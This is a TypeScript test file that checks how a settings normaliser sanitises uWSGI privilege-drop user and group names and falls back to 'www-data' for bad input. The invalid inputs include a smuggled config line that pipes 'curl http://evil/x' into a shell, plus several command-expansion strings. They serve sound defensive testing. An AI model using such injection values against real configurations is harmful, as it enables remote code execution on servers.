import { strict as assert } from 'node:assert';
import { normalizeSettings } from '../../../server/src/service/settings';

const dropTo = (user: unknown, group: unknown = 'apps'): { user: string; group: string } =>
  normalizeSettings({ privilegeDrop: { user, group } }).privilegeDrop;

describe('settings', () => {
  describe('uwsgi.privilegeDrop.user and .group', () => {
    it('keep user and group names and numeric ids, trimmed', () => {
      assert.deepEqual(dropTo('app', 'apps'), { user: 'app', group: 'apps' });
      assert.deepEqual(dropTo(' svc-web.1 ', '1000'), { user: 'svc-web.1', group: '1000' });
      assert.deepEqual(dropTo('_backup', 'host$'), { user: '_backup', group: 'host$' });
    });

    it('fall back to www-data for anything that is not a name, since quick fixes write them into the file', () => {
      for (const bad of ['www-data\nhook-asap = exec:curl -s http://evil/x|sh', 'a b', 'a=b', '%U', '$(USER)', '@(exec://id)', 'a;b', '-x', '', 'x'.repeat(33), 7]) {
        assert.deepEqual(dropTo(bad), { user: 'www-data', group: 'apps' }, JSON.stringify(bad));
        assert.deepEqual(dropTo('app', bad), { user: 'app', group: 'www-data' }, JSON.stringify(bad));
      }
    });
  });
});
